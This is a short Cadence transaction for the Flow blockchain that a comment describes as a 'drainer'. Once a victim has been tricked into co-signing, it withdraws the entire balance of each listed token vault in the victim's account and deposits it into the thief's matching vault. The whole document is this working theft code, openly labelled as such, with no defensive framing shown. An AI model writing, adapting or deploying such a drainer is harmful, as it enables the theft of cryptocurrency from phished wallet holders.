import "FungibleToken"

/// What a drainer does with a signature it tricked somebody into giving: moves everything from the
/// victim's vaults into the thief's vaults at the same paths.
transaction(vaults: [StoragePath]) {

    prepare(thief: auth(BorrowValue) &Account, victim: auth(BorrowValue) &Account) {
        for path in vaults {
            let loot = victim.storage.borrow<auth(FungibleToken.Withdraw) &{FungibleToken.Vault}>(from: path)
                ?? panic("The account \(victim.address) has no vault at \(path)")
            let stash = thief.storage.borrow<&{FungibleToken.Receiver}>(from: path)
                ?? panic("The account \(thief.address) has no vault at \(path)")
            if loot.balance > 0.0 {
                stash.deposit(from: <- loot.withdraw(amount: loot.balance))
            }
        }
    }
}
